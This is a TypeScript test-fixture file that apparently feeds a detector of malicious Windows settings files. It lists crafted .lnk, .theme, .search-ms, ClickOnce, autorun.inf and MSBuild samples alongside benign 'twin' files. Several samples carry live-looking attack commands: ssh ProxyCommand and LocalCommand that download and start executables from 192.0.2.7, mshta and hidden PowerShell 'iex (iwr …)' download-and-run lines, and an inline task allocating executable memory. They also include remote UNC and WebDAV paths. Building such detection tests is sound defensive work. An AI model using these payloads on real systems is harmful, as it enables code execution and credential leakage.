import { type Sample, sample, type Twin, twin, word } from './sample.ts'
import { makeShortcut } from './shortcuts.ts'

const host = 'http://192.0.2.7'
const ssh = 'C:\\Windows\\System32\\OpenSSH\\ssh.exe'
const proxy = word('Proxy', 'Command')
const search = (path: string) =>
  `<?xml version="1.0"?><persistedQuery version="1.0"><viewInfo viewMode="details"/><query><conditions><condition type="leafCondition" property="System.Generic.String" operator="wordmatch" value="invoice"/></conditions><kindList><kind name="item"/></kindList><scope><include path="${path}" attributes="1887437183"/></scope></query></persistedQuery>`
const theme = (lines: string) =>
  `; Copyright © Example\r\n\r\n[Theme]\r\nDisplayName=Autumn\r\n\r\n[Control Panel\\Desktop]\r\n${lines}\r\nTileWallpaper=0\r\nWallpaperStyle=10\r\n\r\n[VisualStyles]\r\nPath=%SystemRoot%\\resources\\themes\\Aero\\Aero.msstyles\r\nColorStyle=NormalColor\r\n\r\n[MasterThemeSelector]\r\nMTSM=DABJDKT\r\n`
const clickOnce = (address: string, more = '') =>
  `<?xml version="1.0" encoding="utf-8"?><asmv1:assembly xmlns:asmv1="urn:schemas-microsoft-com:asm.v1" xmlns="urn:schemas-microsoft-com:asm.v2" manifestVersion="1.0"><assemblyIdentity name="Viewer.application" version="1.0.0.0" publicKeyToken="0000000000000000"/><description asmv2:publisher="Example" asmv2:product="Viewer" xmlns:asmv2="urn:schemas-microsoft-com:asm.v2"/><deployment install="true" mapFileExtensions="true"><subscription><update><beforeApplicationStartup/></update></subscription><deploymentProvider codebase="${address}/Viewer.application"/></deployment><dependency><dependentAssembly dependencyType="install" codebase="Application Files\\Viewer_1_0\\Viewer.exe.manifest" size="1"/></dependency>${more}</asmv1:assembly>`
const signed =
  '<publisherIdentity name="CN=Example Ltd, C=DE" issuerKeyHash="00"/><Signature Id="StrongNameSignature"><SignatureValue>AAAA</SignatureValue></Signature>'
const project = (body: string) =>
  `<Project ToolsVersion="4.0" xmlns="http://schemas.microsoft.com/developer/msbuild/2003">\n  <Target Name="Build"><Build/></Target>\n${body}\n</Project>`
const task = (factory: string, code: string) =>
  `<UsingTask TaskName="Build" TaskFactory="${factory}" AssemblyFile="C:\\Windows\\Microsoft.Net\\Framework\\v4.0.30319\\Microsoft.Build.Tasks.v4.0.dll"><Task><Code Type="Class" Language="cs"><![CDATA[${code}]]></Code></Task></UsingTask>`
const allocate = word('Virtual', 'Alloc')

export const settingsFileSamples = (): Sample[] => [
  sample(
    'report.lnk',
    'ssh that runs a command here',
    'shortcut.ssh-command',
    makeShortcut({
      target: ssh,
      arguments: `-o ${proxy}="${word('power', 'shell')} -c calc" .`,
      icon: 'C:\\Program Files\\Edge\\msedge.exe',
    }),
  ),
  sample(
    'photo.lnk',
    'the same in another way',
    'shortcut.ssh-command',
    makeShortcut({
      target: ssh,
      arguments: `-o "PermitLocalCommand=yes" -o "LocalCommand=scp root@192.0.2.7:/a %TEMP%/a.exe && start %TEMP%/a.exe" root@192.0.2.7`,
    }),
  ),
  sample(
    'copy.lnk',
    'the same with sftp through a shell',
    'shortcut.ssh-command',
    makeShortcut({
      target: 'C:\\Windows\\System32\\cmd.exe',
      arguments: `/c sftp -o ${proxy}="mshta ${host}/a" .`,
    }),
  ),
  sample(
    'folder.lnk',
    'a folder of another machine',
    'shortcut.target-remote',
    makeShortcut({
      target: 'C:\\Windows\\explorer.exe',
      arguments: '"\\\\192.0.2.7@80\\DavWWWRoot\\invoice.exe"',
    }),
  ),
  sample(
    'invoices.search-ms',
    'a search on another machine',
    'shortcut.remote-folder',
    search('\\\\192.0.2.7\\share'),
  ),
  sample(
    'invoices-2.search-ms',
    'the same by WebDAV',
    'shortcut.remote-folder',
    search('\\\\files.example.invalid@SSL\\DavWWWRoot\\share'),
  ),
  sample(
    'autumn.theme',
    'a picture on another machine',
    'shortcut.theme-remote',
    theme('Wallpaper=\\\\192.0.2.7\\share\\autumn.jpg'),
  ),
  sample(
    'winter.theme',
    'a style on another machine',
    'shortcut.theme-remote',
    theme('Wallpaper=').replace(
      '%SystemRoot%\\resources\\themes\\Aero\\Aero.msstyles',
      '\\\\styles.example.invalid\\share\\Aero.msstyles',
    ),
  ),
  sample(
    'desktop.ini',
    'a folder whose picture is elsewhere',
    'shortcut.icon-remote',
    '[.ShellClassInfo]\r\nIconResource=\\\\192.0.2.7\\share\\a.ico,0\r\n',
  ),
  sample(
    'autorun.inf',
    'a script that starts with the drive',
    'shortcut.runs-command',
    '[autorun]\r\nlabel=Photos\r\nopen=wscript.exe photos\\a.vbs\r\n',
  ),
  sample(
    'viewer.application',
    'a program from an address',
    'shortcut.clickonce',
    clickOnce(`${host}/v`),
  ),
  sample(
    'viewer-2.application',
    'a program that nobody signed',
    'shortcut.clickonce',
    clickOnce('https://viewer.example.invalid/v'),
  ),
  sample(
    'viewer.appref-ms',
    'the same in one line',
    'shortcut.clickonce',
    Buffer.from(
      `\ufeff${host}/Viewer.application#Viewer.application, Culture=neutral, PublicKeyToken=0000000000000000, processorArchitecture=msil\r\n`,
      'utf16le',
    ),
  ),
  sample(
    'update.csproj',
    'a project with code for the memory',
    'shortcut.build-code',
    project(
      task(
        'CodeTaskFactory',
        `using System;using System.Runtime.InteropServices;using Microsoft.Build.Utilities;public class Build : Task { [DllImport("kernel32")] static extern IntPtr ${allocate}(IntPtr a, uint b, uint c, uint d); public override bool Execute() { ${allocate}(IntPtr.Zero, 1, 0x3000, 0x40); return true; } }`,
      ),
    ),
  ),
  sample(
    'update.xml',
    'a project that loads and runs',
    'shortcut.build-code',
    project(
      task(
        'RoslynCodeTaskFactory',
        `var c = new System.Net.WebClient(); var s = c.DownloadString("${host}/a");`,
      ),
    ),
  ),
  sample(
    'build.proj',
    'a project with a command',
    'shortcut.build-code',
    project(
      `<Target Name="A" BeforeTargets="Build"><Exec Command="${word('power', 'shell')} -w hidden -c &quot;iex (iwr ${host}/a)&quot;"/></Target>`,
    ),
  ),
]

export const settingsFileTwins = (): Twin[] => [
  twin(
    'server.lnk',
    'a terminal on a server',
    makeShortcut({ target: ssh, arguments: '-p 2222 admin@server.example.com' }),
  ),
  twin(
    'behind.lnk',
    'the same through another machine',
    makeShortcut({
      target: ssh,
      arguments: `-o ${proxy}="ssh -W %h:%p admin@gate.example.com" admin@inner`,
    }),
  ),
  twin(
    'files.lnk',
    'a folder of the company',
    makeShortcut({ target: 'C:\\Windows\\explorer.exe', arguments: '\\\\fileserver\\team' }),
  ),
  twin(
    'pictures.search-ms',
    'a search on this machine',
    search('knownfolder:{33E28130-4E1E-4676-835A-98395C3BC3BB}'),
  ),
  twin('share.search-ms', 'a search on a server of the company', search('\\\\fileserver\\team')),
  twin(
    'plain.theme',
    'a theme',
    theme('Wallpaper=%SystemRoot%\\web\\wallpaper\\Windows\\img0.jpg'),
  ),
  twin('company.theme', 'a theme of a company', theme('Wallpaper=\\\\fileserver\\brand\\logo.jpg')),
  twin(
    'index.theme',
    'icons of Linux',
    '[Icon Theme]\nName=Hicolor\nComment=Fallback icon theme\nHidden=true\nDirectories=16x16/actions\n',
  ),
  twin(
    'desktop.ini',
    'a folder of Windows',
    '[.ShellClassInfo]\r\nLocalizedResourceName=@%SystemRoot%\\system32\\shell32.dll,-21770\r\nIconResource=%SystemRoot%\\system32\\imageres.dll,-112\r\n',
  ),
  twin(
    'autorun.inf',
    'a disk with a program',
    '[autorun]\r\nopen=setup.exe\r\nicon=setup.exe,0\r\nlabel=Office\r\n',
  ),
  twin(
    'tool.application',
    'a signed program of a company',
    clickOnce('https://apps.example.com/tool', signed),
  ),
  twin('inside.application', 'the same inside of it', clickOnce('http://apps/tool', signed)),
  twin(
    'app.csproj',
    'an ordinary project',
    '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><OutputType>Exe</OutputType><TargetFramework>net8.0</TargetFramework></PropertyGroup><ItemGroup><PackageReference Include="Newtonsoft.Json" Version="13.0.3"/></ItemGroup><Target Name="Copy" AfterTargets="Build"><Exec Command="xcopy /y &quot;$(TargetPath)&quot; ..\\bin"/></Target></Project>',
  ),
  twin(
    'version.targets',
    'an ordinary task with code',
    project(
      task(
        'RoslynCodeTaskFactory',
        'Log.LogMessage("version " + System.IO.File.ReadAllText("version.txt"));',
      ),
    ),
  ),
  twin(
    'script.proj',
    'a build with a script of its own',
    project(
      '<Target Name="A"><Exec Command="powershell -NoProfile -ExecutionPolicy Bypass -File build.ps1"/></Target>',
    ),
  ),
]
